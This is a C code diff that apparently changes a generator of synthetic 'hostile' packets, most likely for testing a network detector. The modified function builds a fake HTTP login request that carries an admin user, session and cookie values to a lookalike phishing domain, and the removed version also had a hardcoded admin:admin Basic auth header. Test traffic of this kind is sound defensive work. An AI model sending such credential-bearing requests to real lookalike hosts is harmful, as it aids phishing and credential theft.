@@ -248,13 +248,14 @@ uint32_t hostile_stray_tls(const struct hostile *h, uint8_t *to)
 
 uint32_t hostile_stray_http(const struct hostile *h, uint8_t *to)
 {
-	char text[512];
-	int len = snprintf(text, sizeof(text),
-		"GET /login?user=admin&password=%016llx HTTP/1.1\r\nAccept: */*\r\nCookie: %016llx\r\n"
-		"Authorization: Basic YWRtaW46YWRtaW4=\r\nHost: %016llx.g00gle-login.com\r\n\r\n",
+	char text[1600];
+	uint32_t len = (uint32_t)snprintf(text, sizeof(text),
+		"POST /login?user=admin&session=%016llx HTTP/1.1\r\nHost: %016llx.g00gle-login.com\r\nCookie: %016llx",
 		(unsigned long long)h->random, (unsigned long long)~h->random, (unsigned long long)h->random >> 3);
 
-	return stray(h, to, 80, text, (uint32_t)len);
+	while (len + 2 <= payload_of(h, 0) && len + 2 < sizeof(text)) // lines that are like what is looked for
+		len += (uint32_t)snprintf(text + len, sizeof(text) - len, "\r\n");
+	return stray(h, to, 80, text, len);
 }
 
 uint32_t hostile_stray_login(const struct hostile *h, uint8_t *to)
